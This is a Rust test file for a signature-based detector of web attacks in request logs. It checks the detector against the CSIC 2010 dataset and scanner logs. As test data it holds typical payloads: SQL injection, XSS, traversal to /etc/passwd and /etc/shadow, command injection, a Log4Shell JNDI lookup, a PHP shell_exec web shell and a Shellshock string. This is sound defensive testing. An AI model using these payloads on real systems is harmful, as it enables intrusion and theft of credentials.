use super::*;
use std::path::PathBuf;

fn kinds(url: &str) -> Vec<AttackKind> {
    Matcher::default().kinds(url, "Mozilla/5.0", "-")
}

/// The requests of `../shared/data/csic2010/oneline_full/<file>` (URL with the POST body
/// after `?`), or `None` when the data is absent.
fn csic(file: &str) -> Option<Vec<String>> {
    let path = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../shared/data/csic2010/oneline_full").join(file);
    let Ok(bytes) = std::fs::read(&path) else {
        eprintln!("skipped: {} is absent (the shared data sets are not on this machine)", path.display());
        return None;
    };
    let text = String::from_utf8_lossy(&bytes);
    Some(
        text.split('\n')
            .map(|line| line.trim_end_matches('\r'))
            .filter_map(|line| line.split_once(' ').map(|(_, url)| url.to_owned()))
            .collect(),
    )
}

fn tally(requests: &[String]) -> Vec<(AttackKind, usize)> {
    let mut matcher = Matcher::default();
    let mut counts = AttackKind::ALL.map(|kind| (kind, 0));
    for url in requests {
        for kind in matcher.kinds(url, "", "") {
            counts[kind as usize].1 += 1;
        }
    }
    counts.into()
}

use AttackKind::*;

#[test]
fn each_kind_is_found_in_its_typical_payloads() {
    let cases: &[(&str, &[AttackKind])] = &[
        ("/item?id=1%27%20or%201=1--", &[SqlInjection]),
        ("/item?id=1+UNION+ALL+SELECT+username,password+FROM+users", &[SqlInjection]),
        ("/item?id=1;%20waitfor%20delay%20'0:0:6'%20--", &[SqlInjection]),
        ("/item?id=(select(0)from(select(sleep(2)))v)", &[SqlInjection]),
        ("/item?id=1%2527%20and%20%25271%2527=%25271", &[SqlInjection]),
        ("/page?C=1%20AND%20%27NS%3d%27ss", &[SqlInjection]),
        ("/search?q=%3Cscript%3Ealert(1)%3C/script%3E", &[CrossSiteScripting]),
        ("/search?q=%22%3E%3Cimg%20src=x%20onerror=prompt(1)%3E", &[CrossSiteScripting]),
        ("/go?to=javascript:void(document.cookie)", &[CrossSiteScripting]),
        ("/download?file=../../../../etc/passwd", &[PathTraversal]),
        ("/download?file=..%252F..%252Fwindows%252Fwin.ini", &[PathTraversal]),
        ("/static/..%c0%af..%c0%afetc/passwd", &[PathTraversal]),
        ("/index.php?page=php://filter/resource=index", &[PathTraversal]),
        ("/ping?host=127.0.0.1;cat%20/etc/shadow", &[PathTraversal, CommandInjection]),
        ("/ping?host=x%26ping%20-c%2025%20127.0.0.1%20%26", &[CommandInjection]),
        ("/api?name=$(whoami)", &[CommandInjection]),
        ("/?x=${jndi:ldap://203.0.113.9/a}", &[CommandInjection]),
        ("/index.php?p=%3C?php%20echo%20shell_exec($_GET[c]);%20?%3E", &[CommandInjection]),
    ];
    for (url, expected) in cases {
        assert_eq!(&kinds(url), expected, "{url}");
    }
    let mut matcher = Matcher::default();
    let shellshock = "() { :; }; /bin/bash -c 'echo vulnerable'";
    assert_eq!(matcher.kinds("/cgi-bin/status", shellshock, "-"), [CommandInjection]);
    assert_eq!(matcher.kinds("/", "sqlmap/1.7.2#stable (https://sqlmap.org)", "-"), [Scanner]);
    assert_eq!(matcher.kinds("/", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)", "-"), [Scanner]);
    assert_eq!(matcher.kinds("/", "curl/8.0", "http://x/?q=<script>alert(1)</script>"), [CrossSiteScripting]);
    assert!(matcher.looks_like(None, "/item?id=1%27%20or%201=1--", "", ""));
    assert!(!matcher.looks_like(Some(CrossSiteScripting), "/item?id=1%27%20or%201=1--", "", ""));
}

#[test]
fn ordinary_requests_look_like_no_attack() {
    let ordinary = [
        "/",
        "/index.html",
        "/api/v1/items?id=5&cat=3&sort=desc",
        "/select-a-plan?from=home",
        "/search?q=rock+and+roll",
        "/search?q=o%27reilly+books",
        "/search?q=tom%20and%20jerry%20or%20scooby",
        "/shop;jsessionid=ABC123?item=7",
        "/img/onerror-icon.png",
        "/docs/script-guide.pdf",
        "/blog/2024/05/why-union-types?ref=feed",
        "/a/b/c.d/e..f/g",
        "/static/app.min.js?v=1.2.3",
        "/search?q=100%25+cotton&size=m",
        "/calc?expr=1%2B1",
        "/login?next=%2Fdashboard%3Ftab%3D2",
    ];
    let mut matcher = Matcher::default();
    for url in ordinary {
        assert_eq!(
            matcher.kinds(url, "Mozilla/5.0 (X11; Linux x86_64) Chrome/120.0", "https://example.com/?a=1"),
            [],
            "{url}"
        );
    }
}

/// CSIC 2010: 36,000 normal requests to a web shop and 25,065 attacks (SQL injection, XSS,
/// buffer overflow, CRLF injection, parameter tampering, file disclosure). Measured: none of
/// the normal requests flagged; 4,144 attacks flagged (16.5%: the data's many tampered
/// parameters and overflows carry no signature), by kind SQL injection 1,732, cross-site
/// scripting 1,504, path traversal 378, command injection 724, scanner 1,158 (Paros's marker).
#[test]
fn csic_2010_attacks_are_flagged_and_its_normal_requests_are_not() {
    let (Some(normal), Some(attacks)) = (csic("normal.txt"), csic("anomalous.txt")) else { return };
    let mut matcher = Matcher::default();
    let flagged = |requests: &[String], matcher: &mut Matcher| {
        requests.iter().filter(|url| matcher.looks_like(None, url, "", "")).count()
    };
    assert!(normal.len() >= 36_000 && attacks.len() >= 25_000);
    let false_alarms = flagged(&normal, &mut matcher);
    assert!(false_alarms * 1000 <= normal.len(), "{false_alarms} of {} normal requests flagged", normal.len());
    let found = flagged(&attacks, &mut matcher);
    assert!(found * 100 >= attacks.len() * 15, "only {found} of {} attacks flagged", attacks.len());
    for (kind, n) in tally(&attacks) {
        assert!(n >= 100, "{kind:?} found in only {n} attacks");
    }
}

/// Three real scanners' access logs: every kind is found, and w3af (which names itself in
/// its user agent) is recognised as a scanner in almost every line (measured: 3,926 of 3,996).
#[test]
fn the_scanners_access_logs_show_every_kind_and_w3af_is_named() {
    let Some(files) = crate::testing::scan_logs() else { return };
    let parser = crate::parse::Parser::combined();
    let mut matcher = Matcher::default();
    let mut found = std::collections::HashMap::<(&str, AttackKind), usize>::new();
    let mut lines_of = std::collections::HashMap::new();
    for (name, lines) in &files {
        lines_of.insert(*name, lines.len());
        for line in lines {
            let e = parser.parse(line, "test").event;
            for kind in matcher.kinds(&e.url, &e.user_agent, e.referer.as_deref().unwrap_or("")) {
                *found.entry((*name, kind)).or_default() += 1;
            }
        }
    }
    for kind in AttackKind::ALL {
        let n: usize = found.iter().filter(|((_, k), _)| *k == kind).map(|(_, n)| n).sum();
        assert!(n >= 50, "{kind:?} found in only {n} lines");
    }
    let w3af = found.get(&("w3af.txt", Scanner)).copied().unwrap_or(0);
    assert!(w3af * 100 >= lines_of["w3af.txt"] * 95, "w3af named in {w3af} of {} lines", lines_of["w3af.txt"]);
}

#[test]
#[ignore = "prints what the signatures flag in the CSIC 2010 data"]
fn print_csic_tallies() {
    for file in ["normal.txt", "anomalous.txt"] {
        let Some(requests) = csic(file) else { return };
        let any = requests.iter().filter(|u| Matcher::default().looks_like(None, u, "", "")).count();
        println!("{file}: {} requests, {any} flagged, {:?}", requests.len(), tally(&requests));
        let mut matcher = Matcher::default();
        if file == "normal.txt" {
            for url in requests.iter().filter(|u| matcher.looks_like(None, u, "", "")).take(40) {
                println!("  {:?} {url}", Matcher::default().kinds(url, "", ""));
            }
        }
    }
    let Some(files) = crate::testing::scan_logs() else { return };
    for (name, lines) in files {
        let parser = crate::parse::Parser::combined();
        let parsed: Vec<_> = lines.iter().map(|l| parser.parse(l, "test").event).collect();
        let mut matcher = Matcher::default();
        let mut counts = AttackKind::ALL.map(|kind| (kind, 0));
        for event in &parsed {
            let referer = event.referer.as_deref().unwrap_or("");
            for kind in matcher.kinds(&event.url, &event.user_agent, referer) {
                counts[kind as usize].1 += 1;
            }
        }
        println!("{name}: {} lines, {counts:?}", parsed.len());
    }
}
